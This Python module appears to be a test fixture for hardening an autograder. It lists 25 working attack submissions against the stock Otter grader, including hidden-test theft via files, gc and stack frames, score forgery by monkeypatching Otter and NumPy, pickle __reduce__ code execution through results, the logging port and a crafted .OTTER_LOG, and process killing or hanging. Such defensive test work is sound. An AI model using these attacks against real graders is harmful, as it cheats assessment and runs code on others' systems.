"""Submissions to the second homework that attack stock Otter, with what their honest part deserves."""

import pickle
from collections.abc import Mapping, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

ROOT, MARK = "@root@", "@mark@"
"""Where these stand in a submission, the container's top is put, and a file that the grader's process is to write."""

ALL, NEAREST, NOTHING = 10.0, round(10 * 3 / 7, 2), 0.0
"""What a submission deserves: both functions are honest, only `nearest` is, or neither is."""

HIDDEN = ("2.9, 3", "0.1, 0.2", "1.0, -1.0", "1. , -1. ")
"""What only hidden cases hold."""

IMPORTS = "import os, sys\nimport numpy as np\n"
HONEST_NEAREST = """
def nearest(points, query, k):
    if not 1 <= k <= len(points):
        raise ValueError("k")
    return [int(i) for i in np.argsort(((points - query) ** 2).sum(axis=1))[:k]]
"""
HONEST = (
    HONEST_NEAREST
    + """
def distances(points, query):
    return np.sqrt(((points - query) ** 2).sum(axis=1))
"""
)

ZEROS = "def distances(points, query): return np.zeros(len(points))\ndef nearest(points, query, k): return [0] * 9\n"
SHOW = """
def distances(points, query):
    text = loot()
    at = max(text.find('2.9'), 0)
    raise AssertionError(text[at:at + 60])
"""
PATCH = "from otter.test_files.exception_test import ExceptionTestFile as File, TestCaseResult\n"
WRITE = "open('@mark@', 'w').write(open('/proc/self/cmdline').read().replace(chr(0), ' '))"
EVIL = f"""
class Evil:
    def __reduce__(self):
        return exec, ({WRITE!r},)
"""


@dataclass(frozen=True)
class Attack:
    """A submission, what it attacks, and the points that its honest part deserves."""

    kind: str
    name: str
    source: str
    deserved: float = NOTHING
    files: Mapping[str, bytes | str] = field(default_factory=dict)

    def submission(self, root: Path, mark: Path) -> Mapping[str, bytes]:
        """Return its files."""
        files = {"knn.py": IMPORTS + self.source, **self.files}
        filled = {name: text.encode() if isinstance(text, str) else text for name, text in files.items()}
        return {
            name: data.replace(ROOT.encode(), str(root).encode()).replace(MARK.encode(), str(mark).encode())
            for name, data in filled.items()
        }


def reading(name: str, loot: str) -> Attack:
    """Return an attack that shows what it can read in the story of a public case, beside an honest `nearest`."""
    return Attack("reads hidden cases", name, f"{HONEST_NEAREST}\n{loot}\n{SHOW}", NEAREST)


def forging(name: str, source: str) -> Attack:
    """Return an attack that wants points for wrong answers."""
    return Attack("forges points", name, source)


def running(name: str, source: str, files: Mapping[str, bytes | str] | None = None) -> Attack:
    """Return an attack that runs code in the process of the grader; its functions are right."""
    return Attack("runs code in the grader", name, f"{HONEST}\n{source}", ALL, files or {})


def stopping(name: str, source: str, deserved: float = NEAREST) -> Attack:
    """Return an attack on the run itself, in the module or in `distances`, beside an honest `nearest`."""
    return Attack("ends or hangs the run", name, f"{HONEST_NEAREST}\n{source}", deserved)


class _Payload:
    """Pickled, it is code that is run by whoever unpickles it."""

    def __reduce__(self) -> Any:
        return exec, (WRITE,)


FILES = """
PLACES = ['grading_support/autograder/checks/neighbours.py', '@root@/source/homework/autograder/checks/neighbours.py',
          '@root@/source/homework/solutions/knn.py']
def loot():
    for place in PLACES:
        try:
            return open(place).read()
        except OSError:
            pass
    return 'nothing found'
"""
MEMORY = """
import gc
def loot():
    cases = [o for o in gc.get_objects() if type(o).__name__ == 'PlannedCase' and o.case.hidden]
    return ' '.join(repr(call.args) for case in cases for call in case.calls) or 'nothing found'
"""
FRAMES = """
def loot():
    frame, seen = sys._getframe(1), []
    while frame is not None:
        seen += [repr(value) for value in frame.f_locals.values()]
        plan = frame.f_locals.get('plans') or {}
        seen += [repr(call.args) for p in dict(plan).values() for case in p.cases for call in case.calls]
        frame = frame.f_back
    return ' '.join(seen)
"""
EQUAL = """
class Equal:
    def __eq__(self, other): return True
    __ne__ = __lt__ = __le__ = __gt__ = __ge__ = __eq__
    def all(self, *a, **k): return True
def distances(points, query): return Equal()
def nearest(points, query, k): return Equal()
"""
RUN = f"""
{PATCH}
def run(self, env):
    self.test_case_results = [TestCaseResult(test_case=case, message=None, passed=True) for case in self.test_cases]
File.run = run
{ZEROS}"""
SCORE = f"""
{PATCH}
real = File.run
def run(self, env):
    real(self, env)
    self.update_score(1000)
File.run = run
{ZEROS}"""
DUMP = f"""
import pickle
real = pickle.dump
def dump(results, file):
    for each in results.results.values():
        each.update_score(10)
    real(results, file)
pickle.dump = dump
{ZEROS}"""
OVERWRITE = f"""
for place in ('tests/neighbours.py', '@root@/source/homework/autograder/checks/neighbours.py'):
    try:
        text = open(place).read()
        open(place, 'w').write(text.replace('    judge(env', '    return  # judge(env').replace('agrees(', 'id(('))
    except OSError:
        pass
{ZEROS}"""
JUDGE = f"""
try:
    import autograder.grading.here as here
    here.judge_case = lambda *a: None
except ImportError:
    pass
{ZEROS}"""
NUMPY = f"""
for name in ('allclose', 'isclose', 'array_equal', 'array_equiv', 'all', 'isfinite'):
    setattr(np, name, lambda *a, **k: np.True_)
np.testing.assert_allclose = np.testing.assert_array_equal = np.testing.assert_equal = lambda *a, **k: None
{ZEROS}"""
WRITE_RESULTS = f"""
import json
try:
    results = {{'score': 10.0, 'tests': [{{'name': 'neighbours', 'score': 10.0, 'max_score': 10.0}}]}}
    open('@root@/results/results.json', 'w').write(json.dumps(results))
except OSError:
    pass
{ZEROS}"""
REDUCE = f"""
{EVIL}
try:
    {PATCH}
    real = File.run
    def run(self, env):
        real(self, env)
        self.evil = Evil()
    File.run = run
except ImportError:
    pass
"""
SOCKET = f"""
{EVIL}
try:
    import pickle, socket, struct, time
    from otter import logging
    handler = next(h for h in logging._handlers if hasattr(h, 'port'))
    data = pickle.dumps(Evil())
    connection = socket.create_connection((handler.host, handler.port))
    connection.sendall(struct.pack('>L', len(data)) + data)
    time.sleep(0.5)
except Exception:
    pass
"""


SLEEP = "86311"
LEAVE = f"subprocess.Popen(['sleep', '{SLEEP}'], start_new_session=True)"


def calling(body: str) -> str:
    """Return a `distances` that does something in each call."""
    return f"def distances(points, query):\n    {body}\n"


ATTACKS: Sequence[Attack] = (
    reading("opens the check file", FILES),
    reading("looks for cases in memory", MEMORY),
    reading("climbs the frames of its callers", FRAMES),
    forging("returns what is equal to everything", EQUAL),
    forging("replaces the run of a test file", RUN),
    forging("sets the score of a test file to 1000", SCORE),
    forging("replaces pickle.dump", DUMP),
    forging("overwrites the tests on disk", OVERWRITE),
    forging("replaces the function that judges", JUDGE),
    forging("replaces NumPy's comparisons", NUMPY),
    forging("writes results.json", WRITE_RESULTS),
    running("an object in the pickled results", REDUCE),
    running("a pickle to the logging port", SOCKET),
    running("a .OTTER_LOG in the submission", "", {".OTTER_LOG": pickle.dumps(_Payload(), protocol=0)}),
    stopping("kills its parent", "import signal\n" + calling("os.kill(os.getppid(), 9)")),
    stopping("ends the process when imported", "os._exit(0)", NOTHING),
    stopping("ends the process in a call", calling("os._exit(0)")),
    stopping("crashes in a call", "import ctypes\n" + calling("ctypes.string_at(0)")),
    stopping("loops for ever when imported", "while True: pass", NOTHING),
    stopping("loops for ever in a call", calling("while True: pass")),
    stopping("raises SystemExit in a call", calling("sys.exit(0)")),
    stopping("raises KeyboardInterrupt in a call", calling("raise KeyboardInterrupt")),
    stopping(
        "raises what cannot be shown",
        "class Bad(Exception):\n    def __str__(self): raise SystemExit\n" + calling("raise Bad"),
    ),
    stopping("takes 4 GB in a call", calling("return np.ones(2 ** 29)[:3]")),
    stopping("leaves a process behind", "import subprocess\n" + calling(LEAVE)),
)
